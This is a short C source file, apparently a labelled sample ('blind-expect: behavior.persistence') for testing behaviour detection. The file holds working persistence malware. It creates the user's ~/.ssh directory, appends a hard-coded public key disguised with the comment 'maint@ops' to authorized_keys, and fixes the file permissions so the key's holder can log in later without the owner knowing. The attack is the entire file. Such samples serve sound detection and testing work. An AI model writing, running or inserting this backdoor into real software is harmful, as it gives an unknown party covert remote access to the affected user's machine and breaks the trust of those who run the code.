// blind-expect: behavior.persistence
// Appends a hard-coded public key to the user's authorized_keys so its holder can log in later.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>

static const char *PUBKEY =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3x0cQ9Lk2m8xw1v6b2QZ0Vt7sE4pT9n1rYc5aF8dGk maint@ops\n";

static int ensure_dir(const char *dir)
{
    if (mkdir(dir, 0700) == 0 || errno == EEXIST)
        return 0;
    return -1;
}

static int append_key(const char *file, const char *key)
{
    int fd = open(file, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (fd < 0)
        return -1;
    size_t len = strlen(key);
    ssize_t w = write(fd, key, len);
    close(fd);
    return w == (ssize_t)len ? 0 : -1;
}

int main(void)
{
    const char *home = getenv("HOME");
    if (!home)
        return 1;
    char dir[512], file[600];
    snprintf(dir, sizeof dir, "%s/.ssh", home);
    snprintf(file, sizeof file, "%s/authorized_keys", dir);

    if (ensure_dir(dir) != 0) {
        perror("mkdir");
        return 1;
    }
    if (append_key(file, PUBKEY) != 0) {
        perror("authorized_keys");
        return 1;
    }
    chmod(file, 0600);
    return 0;
}
